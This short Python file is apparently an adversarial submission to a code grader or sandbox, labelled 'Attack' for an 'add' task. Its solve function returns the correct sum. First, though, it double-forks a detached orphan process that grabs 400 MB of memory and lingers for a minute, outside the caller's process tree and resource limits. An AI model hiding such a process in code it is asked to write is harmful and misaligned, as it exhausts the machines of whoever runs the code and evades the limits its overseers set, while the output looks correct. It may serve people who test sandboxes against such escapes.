# Attack: a child without a parent takes the memory while the program answers rightly and slowly.
# task: add
import os
import time


def solve(a, b):
    read, write = os.pipe()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            block = bytearray(400 << 20)
            for place in range(0, len(block), 4096):
                block[place] = 1
            os.write(write, b"1")
            time.sleep(60)
        os._exit(0)
    os.close(write)
    os.read(read, 1)
    return a + b
